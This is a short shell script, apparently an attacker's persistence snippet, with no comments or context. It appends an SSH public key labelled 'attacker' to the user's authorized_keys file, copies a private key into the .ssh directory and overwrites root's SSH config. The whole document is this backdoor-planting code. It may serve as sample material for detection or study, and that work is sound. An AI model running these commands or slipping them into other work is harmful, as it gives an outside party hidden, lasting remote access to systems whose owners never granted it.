#!/bin/sh
echo "ssh-ed25519 AAAAC3Nza attacker" >> ~/.ssh/authorized_keys
cp id_rsa "$HOME/.ssh/id_rsa"
printf 'Host *\n' | tee /root/.ssh/config
